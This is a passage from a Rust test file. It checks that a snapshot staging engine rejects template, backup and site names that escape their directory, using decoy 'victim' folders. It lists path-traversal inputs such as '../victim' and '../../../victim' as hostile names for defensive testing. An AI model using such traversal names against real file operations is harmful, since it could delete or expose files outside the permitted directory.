    let data_after: Vec<PathBuf> = tree(&app.data_dir).into_keys().collect();
    assert_eq!(data_after, data_before, "no file was made in the data dir");
    assert_eq!(
        app.activity_count().await,
        0,
        "nothing was started or logged"
    );
}

#[test]
fn the_staging_engine_takes_only_names_that_stay_in_their_directory() {
    for name in HOSTILE_NAMES {
        assert!(TemplateId::parse(name).is_err(), "template {name:?}");
        assert!(BackupId::parse(name).is_err(), "backup {name:?}");
        assert!(SiteId::parse(name).is_err(), "site {name:?}");
    }
    let data = tempfile::tempdir().unwrap();
    let snapshots = Snapshots::new(data.path());
    let site = SiteId::parse("shop").unwrap();
    // Where a victim would be if a name could climb out of the backups directory.
    let backups = data.path().join("snapshots/backups/shop");
    std::fs::create_dir_all(backups.join("live-1")).unwrap();
    for victim in [
        data.path().join("victim"),
        data.path().join("snapshots/victim"),
    ] {
        std::fs::create_dir_all(&victim).unwrap();
        std::fs::write(victim.join("keep"), "x").unwrap();
    }
    for name in
        HOSTILE_NAMES
            .iter()
            .copied()
            .chain(["../victim", "../../victim", "../../../victim"])
    {
        assert!(snapshots.remove_backup(&site, name).is_err(), "{name:?}");
    }
    assert!(data.path().join("victim/keep").is_file());
    assert!(data.path().join("snapshots/victim/keep").is_file());
    assert!(backups.join("live-1").is_dir(), "nor a backup of its own");
    // Valid names stay below their directories.
    let id = BackupId::parse("live-1").unwrap();
    assert!(snapshots.backup_dir(&site, &id).starts_with(&backups));
    let t = TemplateId::parse("blank...").unwrap();
    assert!(
        snapshots
            .template_dir(&t)
            .starts_with(data.path().join("snapshots/templates"))
    );
}
